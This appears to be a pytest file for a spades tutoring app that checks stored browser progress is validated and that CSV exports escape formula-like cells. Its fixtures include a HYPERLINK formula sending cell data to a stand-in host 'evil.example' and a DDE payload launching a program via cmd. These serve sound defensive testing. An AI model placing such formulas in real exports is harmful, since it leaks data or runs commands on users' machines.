"""Stored progress comes back from the browser, where anything may have been written into it: every part
is checked, what is wrong is left out with a note, and the quiz, the CSV export and the next answer
keep working. The CSV the app writes never hands a spreadsheet a formula.
"""

from __future__ import annotations

import base64
import csv
import io
import json
from typing import Any

import pytest

from spades_tutor.ui.export import FORMULA_STARTS, safe_cell
from spades_tutor.ui.progress import Progress

FORMAT = "spades-tutor/progress"
GOOD_ROW = [1_700_000_000.5, "legal-plays", "jokers", "legal-plays:jokers:7", True]


def record(**parts: Any) -> str:
    """A stored progress record: a good one, with ``parts`` put in its place."""
    data: dict[str, Any] = {
        "format": FORMAT,
        "version": 1,
        "answers": [GOOD_ROW],
        "lessons": {"the-deck": 2},
        "settings": {"preset": "classic", "nil": False},
    }
    data.update(parts)
    return json.dumps(data)


def csv_rows(progress: Progress) -> list[list[str]]:
    return list(csv.reader(io.StringIO(progress.to_csv())))


# --- CSV cells a spreadsheet would run -----------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_stored_text_that_starts_like_a_formula_is_exported_as_text(start: str) -> None:
    cell = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    progress = Progress.from_json(record(answers=[[1_700_000_000, cell, cell, cell, True]]))
    assert progress.answers[0].kind == cell[:40]
    row = csv_rows(progress)[1]
    assert row[1:4] == [safe_cell(cell[:40]), safe_cell(cell[:40]), safe_cell(cell[:120])]
    assert all(c.startswith("'" + start) for c in row[1:4])
    assert row[1][1:] == cell[:40]  # nothing else of the text changes


def test_plain_text_and_numbers_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in ("legal-plays", "score:jokers:3", "", -80, 1.5)] == [
        "legal-plays",
        "score:jokers:3",
        "",
        -80,
        1.5,
    ]


def test_the_joker_labs_csv_download_writes_text_cells_as_text_and_numbers_as_numbers() -> None:
    import pandas as pd

    from spades_tutor.ui.lab_page import LabPage

    page = LabPage()
    page.frames = {
        "trumps": pd.DataFrame({"rules": ["jokers", "=cmd|' /C calc'!A0"], "mean": [-1.5, 2.0], "n": [-3, 4]}),
        "-x": pd.DataFrame({"rules": ["@SUM(1)"], "mean": [0.5], "n": [1]}),
    }
    page._make_download()
    href = page.download.value.split("base64,", 1)[1].split('"', 1)[0]
    rows = list(csv.DictReader(io.StringIO(base64.b64decode(href).decode("utf-8"))))
    assert [r["rules"] for r in rows] == ["jokers", "'=cmd|' /C calc'!A0", "'@SUM(1)"]
    assert [r["experiment"] for r in rows] == ["trumps", "trumps", "'-x"]
    assert [r["mean"] for r in rows] == ["-1.5", "2.0", "0.5"] and [r["n"] for r in rows] == ["-3", "4", "1"]
